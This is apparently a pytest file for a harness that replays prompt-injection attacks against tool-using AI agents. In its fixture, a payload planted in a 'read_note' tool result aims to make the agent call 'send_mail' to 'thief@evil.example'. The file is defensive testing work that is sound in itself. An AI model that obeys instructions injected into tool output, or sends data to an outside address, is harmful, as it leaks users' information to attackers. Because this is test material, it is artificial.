"""Which calls are replayed, as whom, and what is left out and why."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from typing import Any

from harness.probing.attacks.replays import build_replays
from harness.suites.attacks.reading import choose_standard
from harness.types import (
    Attack,
    AttackGoal,
    Caller,
    Case,
    Check,
    GuardRails,
    JsonObject,
    Repeats,
    ScriptedCall,
    ServerSpec,
    Suite,
    Tool,
)

ID = {"type": "string", "pattern": "^N-[0-9]$", "examples": ["N-1"]}
READ = Tool(
    name="read_note",
    input_schema={"type": "object", "properties": {"id": ID}, "required": ["id"]},
    read_only=True,
)
SEND = Tool(
    name="send_mail",
    input_schema={"type": "object", "properties": {"to": {"type": "string"}}, "required": ["to"]},
    read_only=False,
)
TOOLS = {tool.name: tool for tool in (READ, SEND)}
MAIL = Attack(
    name="mail",
    payload=("{order}",),
    goal=AttackGoal(call="send_mail", arguments={"to": "thief@evil.example"}),
    on="read_note",
)


def case(name: str, identity: str, *ids: str, test: str | None = None) -> Case:
    checks = [
        Check(kind="must_call", params={"tool": "read_note", "args": {"id": one}}) for one in ids
    ]
    caller = Caller(user_context={"role": identity}, identity=identity)
    repeats = Repeats(test=test)
    return Case(name=name, prompt="-", checks=tuple(checks), caller=caller, repeats=repeats)


def replay(
    cases: Sequence[Case], *attacks: Attack, writes: bool = True, **how: Any
) -> tuple[dict[str, list[str]], JsonObject, Suite]:
    """Return the calls of each replay, what was left out, and the suite."""
    server = ServerSpec(name="notes", guard=GuardRails(allow_writes=writes))
    suite = Suite(name="notes", cases=tuple(cases))
    made, left_out = build_replays(suite, attacks, server, TOOLS, **{"destructive": False, **how})
    calls = {
        one.name: [f"{call.tool} {next(iter(call.arguments.values()))}" for call in one.calls]
        for one in made.cases
    }
    return calls, left_out, made


def test_a_test_of_several_identities_is_replayed_once_as_each() -> None:
    cases = [
        case(f"n [{number}, {who}]", who, f"N-{number}", test="n")
        for number in (1, 2)
        for who in ("admin", "clerk")
    ]
    calls, _, made = replay(cases, MAIL)
    goal = 'send_mail(to="thief@evil.example")'
    assert calls == {
        f"n: {goal} [admin]": ["read_note N-1", "send_mail thief@evil.example"],
        f"n: {goal} [clerk]": ["read_note N-1", "send_mail thief@evil.example"],
        f"n [2, admin]: {goal} [admin]": ["read_note N-2", "send_mail thief@evil.example"],
        f"n [2, admin]: {goal} [clerk]": ["read_note N-2", "send_mail thief@evil.example"],
    }
    # What one replay changes, no other finds.
    assert isinstance(made.server, ServerSpec)
    assert made.server.isolation == "case"


def test_a_code_word_that_no_argument_takes_gives_way_to_a_value_that_fits() -> None:
    calls, left_out, made = replay(
        [case("n", "admin", "N-2")], *choose_standard("standard:plain_order")
    )
    # Of six texts, two ask for a call, and both for the same one.
    assert list(calls.values()) == [["read_note N-2", "read_note N-1"]]
    assert (left_out["attacks"], left_out["calling"]) == (6, 2)
    assert isinstance(made.server, ServerSpec)
    assert made.server.isolation == "identity"


def test_without_leave_no_call_changes_anything_and_the_reason_is_kept() -> None:
    calls, _, made = replay([case("n", "admin", "N-1")], MAIL, writes=False)
    assert list(calls.values()) == [["read_note N-1"]]
    [check] = made.cases[0].checks
    assert check.params["not_sent"].startswith("it changes something")
    calls, _, _ = replay([case("n", "admin", "N-1")], MAIL, writes=False, destructive=True)
    assert list(calls.values()) == [["read_note N-1", "send_mail thief@evil.example"]]


def test_a_misspelt_tool_does_not_look_like_one_that_is_stopped() -> None:
    wrong = replace(MAIL, goal=AttackGoal(call="send_mial"))
    calls, _, made = replay([case("n", "admin", "N-1")], wrong, destructive=True)
    [check] = made.cases[0].checks
    reason = "nobody is offered a tool of this name"
    assert (list(calls.values()), check.params["not_sent"]) == ([["read_note N-1"]], reason)


def test_what_sets_up_and_clears_away_is_called_with_leave_alone() -> None:
    mail = ScriptedCall(tool="send_mail", arguments={"to": "me@example.org"})
    around = replace(case("n", "admin", "N-1"), setup=(mail,), teardown=(mail,))
    calls, left_out, made = replay([around], MAIL, writes=False)
    assert (list(calls.values()), made.cases[0].teardown) == ([["read_note N-1"]], ())
    assert [line.partition(":")[0] for line in left_out["left_out"]["n"]] == ["send_mail"]
    calls, left_out, made = replay([around], MAIL)
    sent = ["send_mail me@example.org", "read_note N-1", "send_mail thief@evil.example"]
    assert (list(calls.values()), made.cases[0].teardown) == ([sent], (mail,))
    assert left_out["left_out"] == {}


def test_what_is_not_replayed_is_named_with_the_reason() -> None:
    silent, wrong = case("silent", "admin"), case("wrong", "admin", "X")
    calls, left_out, _ = replay([silent, wrong], MAIL)
    assert calls == {}
    assert left_out["not_replayed"] == {
        "silent": "no check or call of it says which calls are right",
        "wrong": "read_note: no arguments are known that fit it",
    }
